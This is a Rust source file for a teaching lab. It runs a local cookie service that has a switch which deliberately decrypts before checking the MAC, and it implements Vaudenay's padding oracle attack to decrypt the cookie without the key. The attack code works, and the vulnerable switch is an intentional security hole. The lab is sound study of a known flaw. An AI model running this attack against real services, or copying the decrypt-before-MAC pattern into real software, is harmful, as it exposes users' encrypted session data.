//! Lab 2: Vaudenay's padding oracle (2002) against AES-CBC with PKCS#7.
//!
//! A web service on 127.0.0.1 keeps its session cookies encrypted: the
//! cookie is `IV || AES-CBC(K, data) || HMAC-SHA256(K', IV || C)`, made and
//! opened with padlock-aes's real CBC (`cbc::encrypt_padded`,
//! `cbc::decrypt_padded`, whose padding check is constant time and has one
//! opaque error) and padlock-sha's HMAC. The real service checks the MAC
//! first and answers every bad cookie with 403 (encrypt-then-MAC, as RFC
//! 7366 orders it for TLS). With its switch `DecryptBeforeMac`, it
//! decrypts first and lets a bad padding escape as a 500 — as ASP.NET did
//! until 2010 (CVE-2010-3332) and as TLS's MAC-then-encrypt CBC suites did
//! through Lucky Thirteen (2013) and POODLE (2014). Padlock's own TLS has no
//! CBC suite, so this service, and its switch, live in the labs crate.
//!
//! The attack decrypts the cookie a block at a time, a byte at a time, at
//! most 256 queries per byte.

use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream};
use std::thread::JoinHandle;

use padlock_aes::{Aes, cbc};
use padlock_sha::Sha256;
use padlock_sha::hmac::{Hmac, hmac};

use crate::net::{self, TIMEOUT};
use crate::report::{Report, Role, thousands};
use crate::{Outcome, Params};

/// The service's keys: AES-128 for the data, HMAC-SHA256 for the tag.
pub struct CookieKeys {
    /// The AES key.
    pub aes: Aes,
    /// The HMAC key.
    pub mac: [u8; 32],
}

/// Why the service refused a cookie.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum CookieError {
    /// 403: a bad cookie (the only answer the real service gives).
    Forbidden,
    /// 500: the padding was wrong (the switched service's leak).
    BadPadding,
}

/// A tag is 32 bytes; IV and blocks 16.
const TAG_LEN: usize = 32;

/// `IV || AES-CBC(data) || HMAC(IV || C)`.
pub fn seal_cookie(keys: &CookieKeys, iv: [u8; 16], data: &[u8]) -> Vec<u8> {
    let mut cookie = iv.to_vec();
    cookie.extend(cbc::encrypt_padded(&keys.aes, &iv, data));
    let tag = hmac::<Sha256>(&keys.mac, &cookie);
    cookie.extend_from_slice(&tag);
    cookie
}

/// The service's check of a cookie; `switched` is the lab switch.
pub fn open_cookie(keys: &CookieKeys, cookie: &[u8], switched: bool) -> Result<Vec<u8>, CookieError> {
    if cookie.len() < 16 + 16 + TAG_LEN {
        return Err(CookieError::Forbidden);
    }
    let (body, tag) = cookie.split_at(cookie.len() - TAG_LEN);
    // LAB SWITCH: DecryptBeforeMac — decrypt first, and let a bad padding show as its own error.
    if switched {
        decrypt(keys, body).map_err(|_| CookieError::BadPadding)?;
    }
    // Encrypt-then-MAC: nothing unauthenticated is decrypted.
    let mut mac = Hmac::<Sha256>::new(&keys.mac);
    mac.update(body);
    mac.verify(tag).map_err(|_| CookieError::Forbidden)?;
    decrypt(keys, body).map_err(|_| CookieError::Forbidden)
}

fn decrypt(keys: &CookieKeys, body: &[u8]) -> Result<Vec<u8>, padlock_aes::DecryptError> {
    let (iv, ciphertext) = body.split_at(16);
    let iv: [u8; 16] = iv.try_into().map_err(|_| padlock_aes::DecryptError)?;
    cbc::decrypt_padded(&keys.aes, &iv, ciphertext)
}

/// The service: one request per line, `GET /account cookie=<hex>`,
/// answered with an HTTP status line.
struct Service {
    address: SocketAddr,
    handle: Option<JoinHandle<()>>,
}

impl Service {
    fn start(keys: CookieKeys, switched: bool) -> Result<Service, String> {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).map_err(|e| format!("listen: {e}"))?;
        let address = listener.local_addr().map_err(|e| e.to_string())?;
        let handle = std::thread::spawn(move || {
            // One client: the attacker, on one kept-alive connection.
            if let Ok((tcp, _)) = listener.accept() {
                let _ = tcp.set_read_timeout(Some(TIMEOUT));
                serve(&keys, tcp, switched);
            }
        });
        Ok(Service { address, handle: Some(handle) })
    }
}

impl Drop for Service {
    fn drop(&mut self) {
        if let Some(handle) = self.handle.take() {
            let _ = handle.join();
        }
    }
}

fn serve(keys: &CookieKeys, tcp: TcpStream, switched: bool) {
    let _ = tcp.set_nodelay(true);
    let Ok(mut out) = tcp.try_clone() else { return };
    for line in BufReader::new(tcp).lines() {
        let Ok(line) = line else { return };
        let cookie = line.strip_prefix("GET /account cookie=").and_then(from_hex).unwrap_or_default();
        let status = match open_cookie(keys, &cookie, switched) {
            Ok(_) => "200 OK",
            Err(CookieError::Forbidden) => "403 Forbidden",
            Err(CookieError::BadPadding) => "500 Internal Server Error",
        };
        // One write per answer: small writes and Nagle's algorithm would
        // wait for the peer's delayed ACK, 40 ms a query.
        if out.write_all(format!("HTTP/1.1 {status}\n").as_bytes()).is_err() {
            return;
        }
    }
}

fn from_hex(text: &str) -> Option<Vec<u8>> {
    let text = text.trim();
    (0..text.len() / 2).map(|i| u8::from_str_radix(text.get(2 * i..2 * i + 2)?, 16).ok()).collect()
}

/// The attacker's connection to the service: a cookie in, a status out.
struct Client {
    reader: BufReader<TcpStream>,
    writer: TcpStream,
    queries: u64,
}

impl Client {
    fn connect(address: SocketAddr) -> Result<Client, String> {
        let writer = net::connect(address)?;
        let reader = BufReader::new(writer.try_clone().map_err(|e| e.to_string())?);
        Ok(Client { reader, writer, queries: 0 })
    }

    fn status(&mut self, cookie: &[u8]) -> Result<String, String> {
        self.queries += 1;
        let request = format!("GET /account cookie={}\n", padlock_tls::trace::hex(cookie));
        self.writer.write_all(request.as_bytes()).map_err(|e| e.to_string())?;
        let mut line = String::new();
        self.reader.read_line(&mut line).map_err(|e| e.to_string())?;
        Ok(line.trim().trim_start_matches("HTTP/1.1 ").to_string())
    }
}

pub(crate) fn run(params: &Params, report: &mut Report<'_>) -> Result<Outcome, String> {
    let seed = params.seed;
    let key: [u8; 16] = net::random_bytes(seed, 1, 16).try_into().map_err(|_| "key")?;
    let mac: [u8; 32] = net::random_bytes(seed, 2, 32).try_into().map_err(|_| "key")?;
    let keys = CookieKeys { aes: Aes::new(&key).map_err(|e| e.to_string())?, mac };
    let sid = padlock_tls::trace::hex(&net::random_bytes(seed, 3, 8));
    let secret = format!("user=alice;role=customer;card=4929-1132-8471-0065;sid={sid}");
    let iv: [u8; 16] = net::random_bytes(seed, 4, 16).try_into().map_err(|_| "iv")?;
    let cookie = seal_cookie(&keys, iv, secret.as_bytes());
    report.heading("The setting");
    report.explain(format!(
        "A web service keeps its session state in an encrypted cookie: IV || AES-128-CBC(data, PKCS#7 \
         padding) || HMAC-SHA256(IV || ciphertext), {} bytes. {} The attacker has a copy of Alice's cookie \
         (a shared computer, a log file) but neither key.",
        cookie.len(),
        if params.fixed {
            "This is the real service (--fixed): it checks the HMAC first, and any bad cookie gets 403."
        } else {
            "Its switch DecryptBeforeMac is on (crates/labs/src/padding_oracle.rs): it decrypts before it \
             checks the HMAC, and a padding error escapes as a 500, while a good padding with a bad HMAC is a \
             403."
        }
    ));
    report.wire(Role::Server, Role::Client, "Set-Cookie: the encrypted session", &cookie);
    let service = Service::start(keys, !params.fixed)?;
    let mut client = Client::connect(service.address)?;
    let body = &cookie[..cookie.len() - TAG_LEN];
    let (answer_valid, answer_invalid) = calibrate(&mut client, body, report)?;
    if answer_valid == answer_invalid {
        report.leak("nothing: a good and a bad padding get the same answer");
        report.figure("queries", thousands(client.queries));
        report.verdict(false, "no oracle: every tampered cookie gets 403, so the attack cannot start");
        return Ok(Outcome { attack_succeeded: false, queries: client.queries, seconds: 0.0 });
    }
    report.leak(format!("whether the padding is right: \"{answer_invalid}\" means no"));
    report.heading("The attack");
    report.explain(
        "CBC decrypts block i as P_i = D_K(C_i) XOR C_(i-1). The attacker sends two blocks, R || C_i, where \
         R is a block of its choosing standing in the IV: the service computes D_K(C_i) XOR R and checks its \
         padding. Going from the last byte to the first, the attacker tries the 256 values of R[j] until the \
         padding is right: then D_K(C_i)[j] XOR R[j] = 16 - j, which gives D_K(C_i)[j], and XOR with the real \
         C_(i-1) gives the plaintext byte (Vaudenay 2002, §3). At most 256 queries per byte, 128 on average.",
    );
    let queries = std::cell::Cell::new(client.queries);
    let mut bad_padding = |cookie: &[u8]| {
        queries.set(queries.get() + 1);
        client.status(cookie).map(|status| status == answer_invalid)
    };
    let mut progress = |block: usize, blocks: usize, plaintext: &[u8]| {
        let shown = crate::common::printable(plaintext);
        report.progress(queries.get(), format!("block {block} of {blocks}: {shown}"));
    };
    let plaintext = vaudenay(body, &mut bad_padding, &mut progress)?;
    report.recovered("cookie plaintext", &plaintext, secret.as_bytes());
    report.value("the cookie, decrypted", crate::common::printable(&plaintext));
    let succeeded = plaintext == secret.as_bytes();
    report.figure("ciphertext blocks", (body.len() / 16 - 1).to_string());
    report.figure("queries", thousands(client.queries));
    report
        .figure("queries per byte", format!("{:.1}", client.queries as f64 / plaintext.len().max(1) as f64));
    report.verdict(
        succeeded,
        if succeeded { "the cookie is decrypted without the key" } else { "no plaintext" },
    );
    Ok(Outcome { attack_succeeded: succeeded, queries: client.queries, seconds: 0.0 })
}

/// Two probes: the real first block behind its IV (good padding is likely
/// only for the last block, so the last block behind its real predecessor:
/// a correct padding), and the same with the predecessor's last byte
/// flipped (almost surely a bad one).
fn calibrate(client: &mut Client, body: &[u8], report: &mut Report<'_>) -> Result<(String, String), String> {
    report.heading("Is there an oracle?");
    let blocks: Vec<&[u8]> = body.chunks(16).collect();
    let last_two = [blocks[blocks.len() - 2], blocks[blocks.len() - 1]].concat();
    let mut flipped = last_two.clone();
    flipped[15] ^= 0x01;
    let valid = client.status(&with_tag(&last_two))?;
    let invalid = client.status(&with_tag(&flipped))?;
    report.wire(Role::Server, Role::Attacker, format!("to a good padding and a wrong HMAC: {valid}"), &[]);
    report.wire(Role::Server, Role::Attacker, format!("to a bad padding and a wrong HMAC: {invalid}"), &[]);
    Ok((valid, invalid))
}

/// `body` followed by a tag of zeros (the attacker cannot make a right one).
fn with_tag(body: &[u8]) -> Vec<u8> {
    let mut cookie = body.to_vec();
    cookie.extend_from_slice(&[0u8; TAG_LEN]);
    cookie
}

/// Vaudenay's attack: every block of `body` (IV first) decrypted through
/// `bad_padding`, which says whether a cookie (two blocks and a dummy tag)
/// was refused for its padding; `progress` sees each block as it comes.
pub fn vaudenay(
    body: &[u8],
    bad_padding: &mut dyn FnMut(&[u8]) -> Result<bool, String>,
    progress: &mut dyn FnMut(usize, usize, &[u8]),
) -> Result<Vec<u8>, String> {
    let blocks: Vec<[u8; 16]> = body.chunks(16).filter_map(|b| b.try_into().ok()).collect();
    let mut plaintext = Vec::new();
    for i in 1..blocks.len() {
        let intermediate = decrypt_block(&blocks[i], bad_padding)?;
        plaintext.extend(intermediate.iter().zip(&blocks[i - 1]).map(|(d, c)| d ^ c));
        progress(i, blocks.len() - 1, &plaintext);
    }
    // PKCS#7: the last byte says how many to drop.
    let pad = usize::from(*plaintext.last().ok_or("no plaintext")?);
    if pad == 0 || pad > 16 || pad > plaintext.len() {
        return Err("the recovered padding is malformed".into());
    }
    plaintext.truncate(plaintext.len() - pad);
    Ok(plaintext)
}

/// `D_K(target)`, byte by byte from the last.
fn decrypt_block(
    target: &[u8; 16],
    bad_padding: &mut dyn FnMut(&[u8]) -> Result<bool, String>,
) -> Result<[u8; 16], String> {
    let mut intermediate = [0u8; 16];
    for j in (0..16).rev() {
        let pad = (16 - j) as u8;
        let mut r = [0u8; 16];
        for k in j + 1..16 {
            r[k] = intermediate[k] ^ pad;
        }
        let mut found = None;
        for guess in 0..=255u8 {
            r[j] = guess;
            if bad_padding(&with_tag(&[r.as_slice(), target].concat()))? {
                continue;
            }
            // For the last byte, 02 02 (or longer) may have matched by luck:
            // change the byte before it, which a one-byte padding ignores.
            if j == 15 {
                let mut check = r;
                check[14] ^= 0xff;
                if bad_padding(&with_tag(&[check.as_slice(), target].concat()))? {
                    continue;
                }
            }
            found = Some(guess);
            break;
        }
        let guess = found.ok_or("no value of the byte gave a good padding")?;
        intermediate[j] = guess ^ pad;
    }
    Ok(intermediate)
}
